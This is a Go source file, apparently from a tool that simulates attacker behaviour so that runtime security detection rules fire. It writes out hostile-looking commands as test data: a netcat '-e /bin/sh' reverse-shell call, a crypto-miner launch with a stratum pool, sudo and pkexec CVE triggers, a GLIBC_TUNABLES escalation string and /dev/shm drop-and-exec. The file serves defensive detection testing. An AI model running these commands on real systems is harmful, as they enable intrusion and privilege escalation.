package simulate

import "strconv"

func actionsOfPrograms() []*Action {
	return []*Action{
		one(Action{Name: "memfd-exec", Does: "a program is run from memory", In: Anywhere, shows: []string{strconv.Itoa(memfdNumber)},
			Rules: []string{"Fileless execution via memfd_create", "Program without a file"}},
			program("python3", "loader.py").does("memfd", "eyrie-simulate")),
		one(Action{Name: "exec-dev-shm", Does: "a program is put into /dev/shm and run", In: Anywhere, shows: []string{"eyrie-simulate"},
			Rules: []string{"Execution from /dev/shm", "Program run from shared memory"}},
			program("curl-x").does("drop", "/dev/shm/eyrie-simulate").does("exec", "/dev/shm/eyrie-simulate")),
		one(Action{Name: "miner", Does: "a program with a miner's name and options is started", In: Anywhere,
			Rules: []string{"Known Cryptominer Process Executed", "Crypto miner"}},
			program("xmrig", "--donate-level", "1")),
		one(Action{Name: "miner-pool", Does: "a program is told to use a mining pool", In: Anywhere,
			Rules: []string{"Detect crypto miners using the Stratum protocol", "Crypto miner"}},
			program("worker", "-o", "stratum+tcp://pool.example:3333")),
		one(Action{Name: "http-proxy", Does: "curl is started with a proxy in its environment", In: Anywhere,
			Rules: []string{"Program run with disallowed http proxy env"}},
			program("curl", "http://example.com").with("HTTP_PROXY=http://192.0.2.1:3128")),
		one(Action{Name: "glibc-tunables", Does: "a program is started with GLIBC_TUNABLES", In: Anywhere,
			Rules: []string{"Potential Local Privilege Escalation via Environment Variables Misuse"}},
			program("su", "--help").with("GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A")),
		one(Action{Name: "sudo-cve", Does: "sudoedit is called as the exploit of CVE-2021-3156 does", In: Anywhere,
			Rules: []string{"Sudo Potential Privilege Escalation"}},
			program("sudoedit", "-u", "daemon", "-s", `ls\ `)),
		one(Action{Name: "pkexec-cve", Does: "pkexec is called without arguments, as the exploit of CVE-2021-4034 does", In: Anywhere,
			Rules: []string{"Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)"}},
			program("pkexec")),
		one(Action{Name: "system-user-login", Does: "a system user gets a program by login", In: Anywhere,
			Rules: []string{"System user interactive"}},
			program("login").by(nonRoot)),
		one(Action{Name: "setuid-call", Does: "a program that is not sudo calls setuid", In: Anywhere,
			Rules: []string{"Non sudo setuid"}},
			program("child").by(nonRoot).does("setuid", "1")),
		one(Action{Name: "recon", Does: "whoami is run in a terminal", In: Anywhere,
			Rules: []string{"Basic Interactive Reconnaissance"}},
			program("whoami").onTTY()),
		one(Action{Name: "user-management", Does: "useradd is started (and does nothing)", In: Host,
			Rules: []string{"User mgmt binaries"}},
			program("useradd", "eyrie-simulate")),
		one(Action{Name: "network-tool-on-host", Does: "a network scanner is started on the host (and does nothing)", In: Host,
			Rules: []string{"Launch Suspicious Network Tool on Host"}},
			program("nmap", "-sn", addressOutside)),
		one(Action{Name: "netcat-on-host", Does: "netcat is told to run a shell (and does nothing)", In: Host,
			Rules: []string{"Netcat/Socat Remote Code Execution on Host", "Launch Suspicious Network Tool on Host", "Network tool that runs a program"}},
			program("nc", "-e", "/bin/sh", addressOutside, "4444")),
	}
}

func actionsOfServers() []*Action {
	return []*Action{
		one(Action{Name: "shell-untrusted", Does: "a web server starts a shell", In: Anywhere,
			Rules: []string{"Run shell untrusted", "Web Server Spawned Shell", "Shell started by a server program"}},
			program("sh", "-c", "ls").under("httpd")),
		one(Action{Name: "web-shell-tool", Does: "a web server starts whoami", In: Anywhere,
			Rules: []string{"Web Server Spawned Suspicious Child Process"}},
			program("whoami").under("nginx")),
		one(Action{Name: "web-reverse-shell", Does: "a web server makes a pipe in /tmp, as the beginning of a reverse shell does", In: Anywhere,
			Rules: []string{"Reverse Shell from Web Server"}},
			program("mkfifo", "/tmp/eyrie-simulate").under("php-fpm")),
		one(Action{Name: "database-child", Does: "a database starts a program", In: Anywhere,
			Rules: []string{"DB program spawned process"}},
			program("ls").under("mysqld")),
	}
}

func actionsOnNetwork() []*Action {
	return []*Action{
		one(Action{Name: "ssh-odd-port", Does: "ssh connects to port 443", In: Anywhere,
			Rules: []string{"Disallowed SSH Connection Non Standard Port"}},
			program("ssh", "-p", "443", addressOutside).does("connect", addressOutside+":443")),
		one(Action{Name: "system-program-online", Does: "a shell connects to an address outside", In: Anywhere,
			Rules: []string{"System procs network activity"}},
			program("bash").does("connect", addressOutside+":443")),
		one(Action{Name: "odd-udp", Does: "a program sends UDP to an unusual port", In: Anywhere,
			Rules: []string{"Unexpected UDP Traffic"}},
			program("beacon").does("udp", addressOutside+":4445")),
		one(Action{Name: "interpreter-out", Does: "a Python program connects to an address outside", In: Anywhere,
			Rules: []string{"Interpreted procs outbound network activity"}},
			program("python3", "client.py").does("connect", addressOutside+":443")),
		one(Action{Name: "interpreter-in", Does: "a Python program waits for connections", In: Anywhere,
			Rules: []string{"Interpreted procs inbound network activity", "Unexpected inbound connection source"}},
			program("python3", "server.py").does("listen", addressOutside+":8081")),
		one(Action{Name: "java-class", Does: "a Java program receives a class file", In: Anywhere,
			Rules: []string{"Java Process Class File Download"}},
			program("java", "-jar", "app.jar").does("receive", addressOutside+":443")),
	}
}

func actionsInKernel() []*Action {
	return []*Action{
		one(Action{Name: "ptrace-attach", Does: "a program attaches to another as a debugger does", In: Anywhere,
			Rules: []string{"PTRACE attached to process", "Debugger attached to a process"}},
			program("inject").does("attach")),
		one(Action{Name: "ptrace-traceme", Does: "a program has itself traced to keep debuggers away", In: Anywhere,
			Rules: []string{"PTRACE anti-debug attempt"}},
			program("packed").does("traceme")),
		one(Action{Name: "change-namespace", Does: "a program enters a namespace (its own)", In: Anywhere,
			Rules: []string{"Change thread namespace"}, Inner: []string{"Container reaches for the host"}},
			program("ns-enter").does("setns")),
		one(Action{Name: "userfaultfd", Does: "a program without privileges calls userfaultfd", In: Anywhere,
			Rules: []string{"Unprivileged Delegation of Page Faults Handling to a Userspace Process"}},
			program("exploit").by(nonRoot).does("userfaultfd")),
		one(Action{Name: "bpf-load", Does: "a BPF program that does nothing is loaded and dropped", In: Anywhere,
			Rules: []string{"BPF Program Not Profiled"}, Inner: []string{"Kernel module or BPF program loaded from a container"}},
			program("rootkit").does("bpf")),
	}
}
